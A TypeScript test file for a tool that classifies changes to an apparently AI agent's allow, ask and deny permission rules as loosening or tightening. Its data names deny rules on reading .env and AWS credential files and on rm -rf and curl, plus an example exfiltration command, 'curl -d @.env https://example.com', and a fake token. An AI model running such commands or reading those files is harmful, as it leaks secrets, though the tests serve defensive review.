import assert from 'node:assert/strict';
import fc from 'fast-check';
import type { Change } from '../../src/core/compare/change';
import { changesBetween, readText, settingsText } from './permissionsSetup';

type Lists = Parameters<typeof settingsText>[0];

/** `direction op list effect [witness → now]`, for short tables. */
function brief(change: Change): string {
  const { detail } = change;
  if (detail.kind !== 'permission') return `${change.direction} ${change.op} ${change.facet}`;
  const witness = detail.witness === undefined ? '' : ` ${detail.witness}`;
  const now = detail.list === 'allow' || detail.now === undefined ? '' : ` → ${detail.now}`;
  return `${change.direction} ${change.op} ${detail.list} ${detail.effect}${witness}${now}`;
}

function changes(before: Lists, after: Lists): readonly string[] {
  return changesBetween(settingsText(before), settingsText(after)).map(brief);
}

interface Row {
  readonly name: string;
  readonly before: Lists;
  readonly after: Lists;
  readonly expected: readonly string[];
}

const rows: readonly Row[] = [
  {
    name: 'a new allow rule',
    before: { allow: ['Bash(ls:*)'] },
    after: { allow: ['Bash(ls:*)', 'Bash(git push:*)'] },
    expected: ['loosens add allow added git push --force'],
  },
  {
    name: 'a new allow rule inside an old one',
    before: { allow: ['Bash(git:*)'] },
    after: { allow: ['Bash(git:*)', 'Bash(git push:*)'] },
    expected: ['neutral add allow restated'],
  },
  {
    name: 'a new allow rule that is denied anyway',
    before: { deny: ['Bash(git push:*)'] },
    after: { allow: ['Bash(git push origin:*)'], deny: ['Bash(git push:*)'] },
    expected: ['neutral add allow restated'],
  },
  {
    name: 'a new allow rule that is partly denied shows what is left',
    before: { deny: ['Bash(git push:*)'] },
    after: { allow: ['Bash(git:*)'], deny: ['Bash(git push:*)'] },
    expected: ['loosens add allow added git config core.hooksPath hooks'],
  },
  {
    name: 'an allow rule widened, with unrelated rules in between',
    before: { allow: ['Bash(npm run test:*)', 'Bash(ls:*)'] },
    after: { allow: ['Bash(pwd)', 'Bash(ls:*)', 'Bash(npm:*)'] },
    expected: ['loosens add allow added pwd', 'loosens replace allow widened npm publish'],
  },
  {
    name: 'an allow rule widened while the old one stays',
    before: { allow: ['Bash(git push:*)'] },
    after: { allow: ['Bash(git push:*)', 'Bash(git:*)'] },
    expected: ['loosens add allow widened git config core.hooksPath hooks'],
  },
  {
    name: 'an allow rule narrowed',
    before: { allow: ['Bash(npm:*)'] },
    after: { allow: ['Bash(npm run test:*)'] },
    expected: ['tightens replace allow narrowed npm publish'],
  },
  {
    name: 'an allow rule gone',
    before: { allow: ['Bash(npm:*)', 'Bash(ls)'] },
    after: { allow: ['Bash(ls)'] },
    expected: ['tightens remove allow removed npm publish'],
  },
  {
    name: 'an allow rule gone that was denied anyway',
    before: { allow: ['Bash(npm:*)'], deny: ['Bash'] },
    after: { allow: [], deny: ['Bash'] },
    expected: ['neutral remove allow restated'],
  },
  {
    name: 'the other way to write a prefix',
    before: { deny: ['Bash(rm -rf:*)'], allow: ['Bash(ls:*)'] },
    after: { deny: ['Bash(rm -rf *)'], allow: ['Bash(ls *)'] },
    expected: ['neutral replace allow restated', 'neutral replace deny restated'],
  },
  {
    name: 'a deny rule gone: secrets in the project are read without asking',
    before: { deny: ['Read(./.env)', 'Bash(rm:*)'] },
    after: { deny: ['Bash(rm:*)'] },
    expected: ['loosens remove deny removed Read ./.env → allowed'],
  },
  {
    name: 'a deny rule gone: outside the project it is asked for',
    before: { deny: ['Read(~/.aws/**)'] },
    after: {},
    expected: ['loosens remove deny removed Read ~/.aws/credentials → asked'],
  },
  {
    name: 'a deny rule gone, and the mode refuses still',
    before: { deny: ['Bash(curl:*)'] },
    after: {},
    expected: ['loosens remove deny removed curl -d @.env https://example.com → asked'],
  },
  {
    name: 'a deny rule gone: the example is what an allow rule now lets through',
    before: { deny: ['Bash(git:*)'], allow: ['Bash(git commit:*)'] },
    after: { allow: ['Bash(git commit:*)'] },
    expected: ['loosens remove deny removed git commit -m "change" → allowed'],
  },
  {
    name: 'a deny rule narrowed',
    before: { deny: ['Read(.env*)', 'Bash(git push --force *)'] },
    after: { deny: ['Read(.env)', 'Bash(git push --force *)'] },
    expected: ['loosens replace deny narrowed Read ./.env.production → allowed'],
  },
  {
    name: 'a deny rule split into two that cover the same',
    before: { deny: ['Bash(git push:*)'] },
    after: { deny: ['Bash(git push)', 'Bash(git push *)'] },
    expected: ['neutral add deny restated', 'neutral replace deny restated'],
  },
  {
    name: 'a deny rule that never had an effect is gone',
    before: { deny: ['Write(.env)'] },
    after: { deny: [] },
    expected: ['neutral remove deny removed'],
  },
  {
    name: 'a new deny rule',
    before: { deny: [] },
    after: { deny: ['Read(.env*)'] },
    expected: ['tightens add deny added Read ./.env → denied'],
  },
  {
    name: 'a deny rule moved to ask',
    before: { deny: ['Bash(git push:*)'] },
    after: { ask: ['Bash(git push:*)'] },
    expected: ['loosens move deny removed git push --force → asked'],
  },
  {
    name: 'a deny rule moved to allow',
    before: { deny: ['Bash(git push:*)'] },
    after: { allow: ['Bash(git push *)'] },
    expected: ['loosens move deny removed git push --force → allowed'],
  },
  {
    name: 'an ask rule moved to allow',
    before: { ask: ['Bash(git push:*)'] },
    after: { allow: ['Bash(git push:*)'] },
    expected: ['loosens move allow added git push --force'],
  },
  {
    name: 'an allow rule moved to ask',
    before: { allow: ['Bash(git push:*)'] },
    after: { ask: ['Bash(git push:*)'] },
    expected: ['tightens move ask added git push --force → asked'],
  },
  {
    name: 'an ask rule gone above an allow rule',
    before: { allow: ['Bash(git:*)'], ask: ['Bash(git push:*)'] },
    after: { allow: ['Bash(git:*)'] },
    expected: ['loosens remove ask removed git push --force → allowed'],
  },
  {
    name: 'an ask rule gone where the mode asks anyway',
    before: { ask: ['Bash(git push:*)'] },
    after: { ask: [] },
    expected: ['mixed remove ask removed git push --force → asked'],
  },
  {
    name: 'an ask rule gone under a deny rule',
    before: { ask: ['Bash(git push:*)'], deny: ['Bash(git:*)'] },
    after: { deny: ['Bash(git:*)'] },
    expected: ['neutral remove ask restated'],
  },
  {
    name: 'a new ask rule',
    before: { allow: ['Bash(git:*)'] },
    after: { allow: ['Bash(git:*)'], ask: ['Bash(git push:*)'] },
    expected: ['tightens add ask added git push --force → asked'],
  },
  {
    name: 'rules in another order, and one twice',
    before: { allow: ['Bash(ls)', 'Bash(pwd)'], deny: ['Read(.env)'] },
    after: { deny: ['Read(.env)', 'Read(.env)'], allow: ['Bash(pwd)', 'Bash(ls)'] },
    expected: [],
  },
  {
    name: 'an allow rule that is no rule',
    before: { allow: [] },
    after: { allow: ['npm run test'] },
    expected: ['unknown add allow added'],
  },
];

describe('comparing permissions', () => {
  for (const { name, before, after, expected } of rows) {
    it(name, () => {
      const seen = changes(before, after);
      assert.deepEqual([...seen].sort(), [...expected].sort());
    });
  }

  it('counts every click once', () => {
    const clicks = Array.from({ length: 12 }, (_, index) => `Bash(./step${index}.sh)`);
    assert.equal(changes({ allow: [] }, { allow: clicks }).length, 12);
  });

  it('says in words what happened to a protection', () => {
    const [change] = changesBetween(
      settingsText({ deny: ['Read(./.env)'] }),
      settingsText({ deny: [] }),
    );
    assert.match(
      change?.words ?? '',
      /reading `.\/.env` was refused and now happens without asking/,
    );
  });

  it('never shows a token', () => {
    const token = ['gh', 'p_', 'a8Kd02mXq7Lz91TbWc45', 'RvYh36JsPn0eUgQf'].join('');
    const rule = `Bash(curl -H "Authorization: Bearer ${token}" https://api.github.com)`;
    const [change] = changesBetween(settingsText({ allow: [] }), settingsText({ allow: [rule] }));
    assert.ok(change !== undefined);
    const { detail, ...shown } = change;
    assert.ok(!JSON.stringify(shown).includes(token));
    assert.ok(detail.kind === 'permission' && detail.witness?.includes(token) === false);
  });
});

describe('the place of a removed rule', () => {
  const before = settingsText({ deny: ['Read(./.env)', 'Read(./a)'] });
  const at = (after: string): string => {
    const [change] = changesBetween(before, after).filter(({ op }) => op === 'remove');
    return after.slice(change?.range.start, change?.range.end);
  };

  it('is the key of its list', () => {
    assert.equal(at(settingsText({ deny: ['Read(./a)'] })), '"deny"');
  });
  it('is `permissions` when the list is gone', () => {
    assert.equal(at('{ "permissions": { "allow": [] } }'), '"permissions"');
  });
  it('is the start of the file when everything is gone', () => {
    assert.equal(at('{}'), '{');
    assert.equal(at(''), '');
  });
  it('remembers where it stood', () => {
    const [change] = changesBetween(before, settingsText({ deny: ['Read(./a)'] }));
    assert.equal(
      before.slice(change?.baselineRange?.start, change?.baselineRange?.end),
      '"Read(./.env)"',
    );
    assert.equal(change?.pointer, '/permissions/deny/0');
  });
});

describe('permissions in general', () => {
  const rule = fc.oneof(
    fc.constantFrom(
      'Bash(git:*)',
      'Bash(git push:*)',
      'Read(.env*)',
      'Read(./.env)',
      'WebFetch',
      'Bash',
    ),
    fc.string({ maxLength: 20 }).map((text) => `Bash(${text})`),
    fc.string({ maxLength: 20 }),
  );
  const list = fc.array(rule, { maxLength: 5 });
  const lists = fc.record({ allow: list, ask: list, deny: list });

  it('reordering is no change', () => {
    fc.assert(
      fc.property(lists, (given) => {
        const turned = {
          deny: [...given.deny].reverse(),
          ask: [...given.ask].reverse(),
          allow: [...given.allow].reverse(),
        };
        assert.deepEqual(changesBetween(settingsText(given), settingsText(turned)), []);
      }),
    );
  });

  it('nothing throws, and every change has words and a range inside the text', () => {
    fc.assert(
      fc.property(lists, lists, (before, after) => {
        const text = settingsText(after);
        for (const change of changesBetween(settingsText(before), text)) {
          assert.ok(change.words.length > 0);
          assert.ok(change.range.start >= 0 && change.range.end <= text.length);
          assert.ok(change.range.start < change.range.end);
        }
      }),
    );
  });

  it('only adding deny rules never loosens', () => {
    fc.assert(
      fc.property(lists, list, (before, more) => {
        const after = { ...before, deny: [...before.deny, ...more] };
        for (const change of changesBetween(settingsText(before), settingsText(after))) {
          assert.ok(change.direction === 'tightens' || change.direction === 'neutral');
        }
      }),
    );
  });

  it('odd shapes are read without complaint', () => {
    for (const text of [
      '{ "permissions": [] }',
      '{ "permissions": { "allow": "Bash", "deny": { "a": 1 }, "ask": [1, null, ["x"], ""] } }',
      '{ "permissions": null, "hooks": 3, "env": [], "sandbox": true }',
      '[]',
      '"x"',
    ]) {
      assert.deepEqual(readText(text).facts.permissionRules, []);
    }
  });
});
